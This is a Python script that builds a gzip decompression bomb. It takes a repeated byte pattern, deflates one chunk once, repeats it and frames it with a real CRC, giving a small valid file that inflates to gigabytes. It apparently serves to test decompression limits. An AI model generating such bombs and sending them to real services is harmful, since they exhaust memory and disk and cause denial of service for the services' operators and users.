#!/usr/bin/env python3
"""Write a gzip bomb: one valid member holding PATTERN repeated.

usage: gzbomb.py OUT PATTERN MIB

PATTERN (a Python bytes literal body, e.g. '\\n' or a log line) is repeated
to about MIB MiB of inflated data. Compressing gigabytes would take
minutes, so one 16 MiB chunk of whole patterns is deflated once and ended
with a full flush (byte aligned, referring to nothing before it); the
member is that piece repeated, an empty final block, and the real CRC-32
and length: a valid gzip file, as `gzip -t` says, built in seconds.
Prints the inflated size and the compressed size.
"""
import ast
import struct
import sys
import zlib


def main():
    out, pattern, mib = sys.argv[1], sys.argv[2], int(sys.argv[3])
    pat = ast.literal_eval("b'" + pattern.replace("'", "\\'") + "'")
    chunk = pat * ((16 << 20) // len(pat))
    co = zlib.compressobj(6, zlib.DEFLATED, -15)
    piece = co.compress(chunk) + co.flush(zlib.Z_FULL_FLUSH)
    reps = max(1, (mib << 20) // len(chunk))
    crc = 0
    for _ in range(reps):
        crc = zlib.crc32(chunk, crc)
    size = len(chunk) * reps
    with open(out, "wb") as f:
        # magic, deflate, no flags, mtime 0, xfl 0, OS unix
        f.write(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03")
        for _ in range(reps):
            f.write(piece)
        f.write(b"\x03\x00")  # final fixed-Huffman block, end of block only
        f.write(struct.pack("<II", crc, size & 0xFFFFFFFF))
        comp = f.tell()
    print(size, comp)


main()
